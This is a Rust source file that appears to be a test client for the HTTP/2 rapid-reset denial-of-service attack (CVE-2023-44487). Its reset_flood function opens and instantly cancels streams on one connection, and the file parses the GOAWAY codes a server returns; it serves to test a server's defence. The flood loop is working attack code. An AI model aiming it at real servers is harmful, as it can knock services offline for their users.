//! The HTTP/2 rapid-reset attack (CVE-2023-44487), as a test client: a raw
//! `h2` connection that opens streams and cancels them at once, and the
//! GOAWAY frames the server answers with.
//!
//! Every byte the client reads is also kept, because the GOAWAY may arrive
//! after the client has already failed on a write to the closing connection,
//! and then only the socket still holds it.

use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, ReadBuf};
use tokio::net::TcpStream;

/// The HTTP/2 error code for a peer generating excessive load.
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

/// What a [`reset_flood`] did and got.
#[derive(Debug)]
pub struct ResetFlood {
    /// Streams opened and reset before the server stopped taking them.
    pub sent: usize,
    /// The error codes of the GOAWAY frames the server sent.
    pub goaway_codes: Vec<u32>,
}

/// A socket that keeps a copy of every byte read from it.
struct Tee {
    inner: TcpStream,
    seen: Arc<Mutex<Vec<u8>>>,
}

impl AsyncRead for Tee {
    fn poll_read(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<std::io::Result<()>> {
        let before = buf.filled().len();
        let polled = Pin::new(&mut self.inner).poll_read(cx, buf);
        self.seen
            .lock()
            .unwrap()
            .extend_from_slice(&buf.filled()[before..]);
        polled
    }
}

impl AsyncWrite for Tee {
    fn poll_write(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<std::io::Result<usize>> {
        Pin::new(&mut self.inner).poll_write(cx, buf)
    }

    fn poll_flush(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_flush(cx)
    }

    fn poll_shutdown(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<std::io::Result<()>> {
        Pin::new(&mut self.inner).poll_shutdown(cx)
    }
}

/// The error codes of the GOAWAY frames in a server's HTTP/2 byte stream
/// (which, unlike a client's, starts with a frame, not a preface).
pub(crate) fn goaway_codes(bytes: &[u8]) -> Vec<u32> {
    const GOAWAY: u8 = 0x7;
    let mut codes = Vec::new();
    let mut rest = bytes;
    while let [l0, l1, l2, kind, _flags, _s0, _s1, _s2, _s3, after @ ..] = rest {
        let length = u32::from_be_bytes([0, *l0, *l1, *l2]) as usize;
        let Some(payload) = after.get(..length) else {
            break;
        };
        // Last stream id (4 bytes), then the error code.
        if *kind == GOAWAY
            && let Some(code) = payload.get(4..8)
        {
            codes.push(u32::from_be_bytes(code.try_into().unwrap()));
        }
        rest = &after[length..];
    }
    codes
}

/// Opens up to `limit` streams to `path` on one connection, resetting each
/// at once, until the server stops taking them.
pub async fn reset_flood(addr: SocketAddr, path: &str, limit: usize) -> ResetFlood {
    let tcp = TcpStream::connect(addr).await.unwrap().into_std().unwrap();
    // A second handle on the socket, to read what the client never did.
    let mut leftover = TcpStream::from_std(tcp.try_clone().unwrap()).unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let tee = Tee {
        inner: TcpStream::from_std(tcp).unwrap(),
        seen: seen.clone(),
    };
    let (mut client, connection) = h2::client::handshake(tee).await.unwrap();
    let connection = tokio::spawn(connection);
    let mut sent = 0;
    while sent < limit {
        let request = http::Request::post(format!("http://{addr}{path}"))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap();
        let Ok(ready) = client.clone().ready().await else {
            break;
        };
        client = ready;
        let Ok((_response, mut stream)) = client.send_request(request, false) else {
            break;
        };
        stream.send_reset(h2::Reason::CANCEL);
        sent += 1;
        // Let the connection task write the frames as they are made.
        tokio::task::yield_now().await;
    }
    // The client handle stays alive meanwhile: dropping it would let the
    // client close the connection itself.
    let _ = tokio::time::timeout(Duration::from_secs(5), connection)
        .await
        .unwrap_or_else(|_| panic!("the server kept the connection open after {sent} resets"));
    drop(client);

    let mut received = seen.lock().unwrap().clone();
    let mut rest = Vec::new();
    // The server has closed, so this ends at once; the bound is for safety.
    let _ = tokio::time::timeout(Duration::from_secs(2), leftover.read_to_end(&mut rest)).await;
    received.extend(rest);
    ResetFlood {
        sent,
        goaway_codes: goaway_codes(&received),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn goaway_codes_reads_each_goaway_and_skips_other_frames() {
        let frame = |kind: u8, payload: &[u8]| {
            let length = (payload.len() as u32).to_be_bytes();
            let mut frame = vec![length[1], length[2], length[3], kind, 0, 0, 0, 0, 0];
            frame.extend_from_slice(payload);
            frame
        };
        let settings = frame(0x4, &[0, 3, 0, 0, 0, 100]);
        let goaway = |code: u32| frame(0x7, &[[0, 0, 0, 1], code.to_be_bytes()].concat());
        let stream = [settings, goaway(ENHANCE_YOUR_CALM), goaway(0)].concat();
        assert_eq!(goaway_codes(&stream), [ENHANCE_YOUR_CALM, 0]);
        // A frame cut short is not read.
        assert_eq!(
            goaway_codes(&stream[..stream.len() - 1]),
            [ENHANCE_YOUR_CALM]
        );
    }
}
